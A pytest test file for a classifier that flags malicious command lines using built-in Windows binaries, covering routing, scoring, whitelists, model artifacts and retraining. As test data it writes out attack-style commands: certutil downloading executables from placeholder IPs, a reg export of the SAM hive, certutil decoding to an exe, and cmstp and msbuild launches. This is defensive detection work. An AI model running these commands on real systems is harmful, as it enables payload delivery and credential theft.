import json
import os

import pytest

from lolguard.lexers.catalog import SUPPORTED_BINARIES, register_binary, unregister_binary
from lolguard.methods.vocabulary import Label, vocabulary
from lolguard.pipelines.pipeline import ModelEntry, trained_at_stamp
from lolguard.pipelines.unimodel import LOCK, MANIFEST, WhitelistRule, canonical_command, parse_whitelist, \
    unimodel
from lolguard.tools.dataset import LabeledSample
from lolguard.tools.errors import ArtifactLocked, DimensionMismatch, EmptyTraining, FormatError, ManifestError, \
    ModelMissing, UnsupportedBinary

from conftest import SMALL_BINARIES, tree_hashes

REJECTED = ['notepad', 'powershell', 'cmd', 'explorer', 'calc', 'mshta', 'bash', 'python', 'svchost', 'certutil2']
COMMAND_TAILS = ['/?', '-urlcache -f http://198.51.100.{}/a.exe a.exe', 'query hklm\\software\\app{}',
               '/s c:\\temp\\p{}.inf', 'add hkcu\\x /v y{} /d 1', '-decode in{}.b64 out.exe',
               'export hklm\\sam s{}.hiv']


@pytest.fixture
def msbuild():
    register_binary('msbuild')
    yield 'msbuild'
    unregister_binary('msbuild')


def first_detected(uni, samples, binary):
    for s in samples:
        if s.binary == binary and s.label is Label.MALICIOUS:
            p = uni.predict(s.command_line)
            if p.label is Label.MALICIOUS:
                return p
    pytest.fail('no {} command detected'.format(binary))


class TestRouting:

    @pytest.mark.parametrize('binary', SUPPORTED_BINARIES)
    @pytest.mark.parametrize('form', ['{}', '{}.EXE', 'C:\\Windows\\System32\\{}.exe'])
    def test_supported(self, binary, form):
        program = form.format(binary.upper() if form == '{}.EXE' else binary)
        assert unimodel.extract_binary('{} /?'.format(program)) == binary

    @pytest.mark.parametrize('name', REJECTED)
    def test_rejected(self, name):
        with pytest.raises(UnsupportedBinary):
            unimodel.extract_binary('{}.exe /c whoami'.format(name))

    def test_quoted_path(self):
        assert unimodel.extract_binary('"C:\\Windows\\SysWOW64\\rundll32.exe" a.dll,Run') == 'rundll32'

    @pytest.mark.parametrize('line', ['', '   '])
    def test_blank(self, line):
        with pytest.raises(UnsupportedBinary):
            unimodel.extract_binary(line)


class TestPredict:

    def test_trained_binaries(self, small_uni):
        assert small_uni.binaries == ['certutil', 'cmstp', 'reg']
        assert 'certutil' in small_uni and 'mmc' not in small_uni

    def test_detects_download(self, small_uni):
        p = small_uni.predict('certutil.exe -urlcache -split -f http://203.0.113.7/payload.exe c:\\temp\\p.exe')
        assert p.binary == 'certutil'
        assert p.tokens.texts[:3] == ('urlcache', 'split', 'f')
        assert len(p.token_scores) == len(p.tokens)
        assert p.command_score == max(p.token_scores)
        assert p.label is Label.MALICIOUS

    def test_program_only_is_benign(self, small_uni):
        p = small_uni.predict('reg.exe')
        assert p.token_scores == ()
        assert p.command_score == 0.
        assert p.label is Label.BENIGN

    def test_missing_model(self, small_uni):
        with pytest.raises(ModelMissing):
            small_uni.predict('mmc.exe c:\\temp\\x.msc')

    def test_unsupported(self, small_uni):
        with pytest.raises(UnsupportedBinary):
            small_uni.predict('notepad.exe a.txt')

    def test_pooling_order(self, small_uni, small_samples):
        for s in small_samples[:40]:
            lo = small_uni.configured(aggregation='min').predict(s.command_line).command_score
            avg = small_uni.configured(aggregation='avg').predict(s.command_line).command_score
            hi = small_uni.predict(s.command_line).command_score
            assert lo <= avg + 1e-12 and avg <= hi + 1e-12

    def test_threshold_override(self, small_uni, small_samples):
        strict = small_uni.configured(threshold=1.)
        for s in small_samples[:40]:
            p = strict.predict(s.command_line)
            assert (p.label is Label.MALICIOUS) == (p.command_score >= 1.)

    def test_to_dict(self, small_uni):
        d = small_uni.predict('reg query hklm\\software\\x').to_dict()
        assert set(d) == {'binary', 'command', 'tokens', 'token_scores', 'score', 'label', 'suppressed'}
        json.dumps(d)

    def test_metadata(self, small_uni):
        certutil = small_uni.entry('certutil').metadata
        assert certutil['evaluated'] is True
        assert certutil['sample_counts']['test_commands'] > 0
        assert certutil['vocab_size'] == len(small_uni.entry('certutil').vocab)
        cmstp = small_uni.entry('cmstp').metadata
        assert cmstp['evaluated'] is False and cmstp['confusion'] is None
        rows = dict((b, m) for b, _, m in small_uni.model_rows())
        assert rows['cmstp'] is None and rows['certutil'] is not None

    def test_models_must_match_vocabulary(self, small_uni):
        entry = small_uni.entry('reg')
        wider = vocabulary('reg', entry.vocab.entries + ('zzz_extra',))
        with pytest.raises(DimensionMismatch):
            unimodel({'reg': ModelEntry(wider, entry.classifier, entry.metadata)})

    def test_validate(self, small_uni, validation_samples):
        report = small_uni.validate(validation_samples)
        assert set(report.counts) == {'certutil', 'cmstp', 'reg'}
        assert report.total == sum(1 for s in validation_samples if s.binary in report.counts)
        assert report.errors and report.metrics is None

    def test_settings_validated(self, small_uni):
        with pytest.raises(ValueError):
            small_uni.configured(aggregation='median')
        with pytest.raises(ValueError):
            small_uni.configured(threshold=1.5)


class TestWhitelist:

    def test_exact_rule_suppresses(self, small_uni, small_samples):
        p = first_detected(small_uni, small_samples, 'certutil')
        rule = WhitelistRule('exact', '  ' + p.command_line.upper().replace(' ', '   '))
        q = small_uni.configured(whitelist=[rule]).predict(p.command_line)
        assert q.suppressed and q.label is Label.BENIGN
        assert q.command_score == p.command_score
        assert q.token_scores == p.token_scores

    def test_regex_rule(self, small_uni, small_samples):
        p = first_detected(small_uni, small_samples, 'certutil')
        q = small_uni.configured(whitelist=[WhitelistRule('regex', r'certutil.*')]).predict(p.command_line)
        assert q.suppressed
        q = small_uni.configured(whitelist=[WhitelistRule('regex', r'certutil')]).predict(p.command_line)
        assert not q.suppressed and q.label is Label.MALICIOUS

    def test_rule_for_other_command(self, small_uni, small_samples):
        p = first_detected(small_uni, small_samples, 'certutil')
        q = small_uni.configured(whitelist=[WhitelistRule('exact', 'reg query x')]).predict(p.command_line)
        assert q == p

    def test_parse(self):
        rules = parse_whitelist('# ops tooling\n\nexact:certutil -hashfile a.iso\nregex:^reg query .*$\n')
        assert [r.kind for r in rules] == ['exact', 'regex']
        assert rules[0].matches('CERTUTIL   -hashfile a.iso')

    @pytest.mark.parametrize('text', ['glob:*', 'exact:', 'regex:(', 'certutil -f'])
    def test_parse_errors(self, text):
        with pytest.raises(FormatError):
            parse_whitelist(text)

    def test_canonical(self):
        assert canonical_command('  A\tb  C ') == 'a b c'


class TestArtifacts:

    def test_save_load_identical_predictions(self, small_uni, small_samples, tmp_path):
        uni = small_uni.configured(whitelist=[WhitelistRule('regex', r'reg query .*run')])
        uni.save(str(tmp_path))
        loaded = unimodel.load(str(tmp_path))
        assert loaded.binaries == uni.binaries
        assert loaded.whitelist == uni.whitelist
        assert loaded.manifest() == uni.manifest()
        lines = [s.command_line for s in small_samples] + ['reg.exe', 'certutil -f https://x.example/a.ps1 b.ps1']
        lines += ['{} {}'.format(binary, tail.format(i)) for binary in SMALL_BINARIES for tail in COMMAND_TAILS
                 for i in range(3)]
        assert len(set(lines)) >= 100
        for line in lines:
            assert loaded.predict(line).to_dict() == uni.predict(line).to_dict()
        assert not os.path.exists(os.path.join(str(tmp_path), LOCK))

    def test_manifest_content(self, small_uni, tmp_path):
        small_uni.save(str(tmp_path))
        with open(os.path.join(str(tmp_path), MANIFEST)) as f:
            manifest = json.load(f)
        assert manifest == {'version': 1, 'binaries': ['certutil', 'cmstp', 'reg'], 'aggregation': 'max',
                            'threshold': 0.5, 'window': 2}
        for binary in manifest['binaries']:
            assert sorted(os.listdir(os.path.join(str(tmp_path), binary))) == \
                ['metrics.json', 'model.bin', 'vocab.txt']

    def test_reproducible(self, small_samples, fast_hyper, tmp_path):
        unimodel.train(small_samples, fast_hyper).save(str(tmp_path / 'a'))
        unimodel.train(small_samples, fast_hyper).save(str(tmp_path / 'b'))
        assert tree_hashes(str(tmp_path / 'a')) == tree_hashes(str(tmp_path / 'b'))

    def test_missing_manifest(self, tmp_path):
        with pytest.raises(ManifestError):
            unimodel.load(str(tmp_path))

    def test_missing_model_file(self, small_uni, tmp_path):
        small_uni.save(str(tmp_path))
        os.remove(str(tmp_path / 'reg' / 'model.bin'))
        with pytest.raises(ManifestError):
            unimodel.load(str(tmp_path))

    def test_vocabulary_dimension_mismatch(self, small_uni, tmp_path):
        small_uni.save(str(tmp_path))
        with open(str(tmp_path / 'certutil' / 'vocab.txt'), 'a', encoding='utf-8') as f:
            f.write('zzz_extra\n')
        with pytest.raises(ManifestError):
            unimodel.load(str(tmp_path))

    @pytest.mark.parametrize('change', [{'version': 2}, {'aggregation': 'median'}, {'threshold': 3}])
    def test_bad_manifest(self, small_uni, tmp_path, change):
        small_uni.save(str(tmp_path))
        path = str(tmp_path / MANIFEST)
        with open(path) as f:
            manifest = json.load(f)
        manifest.update(change)
        with open(path, 'w') as f:
            json.dump(manifest, f)
        with pytest.raises(ManifestError):
            unimodel.load(str(tmp_path))

    def test_damaged_model_file(self, small_uni, tmp_path):
        small_uni.save(str(tmp_path))
        path = tmp_path / 'reg' / 'model.bin'
        head, _, body = path.read_bytes().partition(b'\n')
        header = json.loads(head)
        header['arrays'][0]['name'] = 'renamed'
        path.write_bytes(json.dumps(header).encode('utf-8') + b'\n' + body)
        with pytest.raises(ManifestError):
            unimodel.load(str(tmp_path))

    def test_damaged_vocabulary_file(self, small_uni, tmp_path):
        small_uni.save(str(tmp_path))
        path = tmp_path / 'cmstp' / 'vocab.txt'
        path.write_text(path.read_text(encoding='utf-8') + '<rare>\n', encoding='utf-8')
        with pytest.raises(ManifestError):
            unimodel.load(str(tmp_path))

    def test_metrics_not_an_object(self, small_uni, tmp_path):
        small_uni.save(str(tmp_path))
        (tmp_path / 'reg' / 'metrics.json').write_text('[]\n')
        with pytest.raises(ManifestError):
            unimodel.load(str(tmp_path))

    @pytest.mark.parametrize('binaries', [['a/b'], ['reg', ' '], 'reg', [3]])
    def test_bad_binary_names(self, small_uni, tmp_path, binaries):
        small_uni.save(str(tmp_path))
        path = str(tmp_path / MANIFEST)
        with open(path) as f:
            manifest = json.load(f)
        manifest['binaries'] = binaries
        with open(path, 'w') as f:
            json.dump(manifest, f)
        with pytest.raises(ManifestError):
            unimodel.load(str(tmp_path))

    def test_bad_whitelist_file(self, small_uni, tmp_path):
        small_uni.save(str(tmp_path))
        (tmp_path / 'whitelist.txt').write_text('prefix:x\n')
        with pytest.raises(FormatError):
            unimodel.load(str(tmp_path))

    def test_locked(self, small_uni, tmp_path):
        (tmp_path / LOCK).write_text('1')
        with pytest.raises(ArtifactLocked):
            small_uni.save(str(tmp_path))
        assert not (tmp_path / MANIFEST).exists()

    def test_trained_at(self, monkeypatch):
        monkeypatch.setenv('SOURCE_DATE_EPOCH', '0')
        assert trained_at_stamp() == '1970-01-01T00:00:00Z'
        monkeypatch.setenv('SOURCE_DATE_EPOCH', 'yesterday')
        assert trained_at_stamp() is None
        monkeypatch.delenv('SOURCE_DATE_EPOCH')
        assert trained_at_stamp() is None


class TestRetrain:

    def test_other_binaries_untouched(self, small_uni, small_samples, fast_hyper, tmp_path):
        small_uni.save(str(tmp_path))
        before = tree_hashes(str(tmp_path))
        retrained = small_uni.retrain_binary('REG', small_samples, fast_hyper, seed=7)
        assert retrained.entry('certutil') is small_uni.entry('certutil')
        assert retrained.entry('reg').metadata['seed'] == 7
        retrained.save(str(tmp_path))
        after = tree_hashes(str(tmp_path))
        for path, digest in before.items():
            if not path.startswith('reg'):
                assert after[path] == digest, path
        assert after[os.path.join('reg', 'metrics.json')] != before[os.path.join('reg', 'metrics.json')]

    def test_no_samples(self, small_uni, small_samples):
        with pytest.raises(EmptyTraining):
            small_uni.retrain_binary('mmc', small_samples)
        assert 'mmc' not in small_uni

    def test_unsupported(self, small_uni, small_samples):
        with pytest.raises(UnsupportedBinary):
            small_uni.retrain_binary('notepad', small_samples)

    def test_extra_binary(self, small_uni, fast_hyper, msbuild, tmp_path):
        samples = [LabeledSample('msbuild', 'msbuild.exe c:\\temp\\evil{}.csproj'.format(i), Label.MALICIOUS)
                   for i in range(6)]
        samples += [LabeledSample('msbuild', 'msbuild.exe build{}.sln /t:rebuild /p:configuration=release'
                                  .format(i), Label.BENIGN) for i in range(6)]
        uni = small_uni.retrain_binary(msbuild, samples, fast_hyper)
        assert uni.binaries == ['certutil', 'cmstp', 'msbuild', 'reg']
        assert uni.predict('msbuild.exe c:\\temp\\evil0.csproj').binary == 'msbuild'
        uni.save(str(tmp_path))
        unregister_binary(msbuild)
        loaded = unimodel.load(str(tmp_path))
        assert loaded.predict('msbuild.exe build1.sln').binary == 'msbuild'
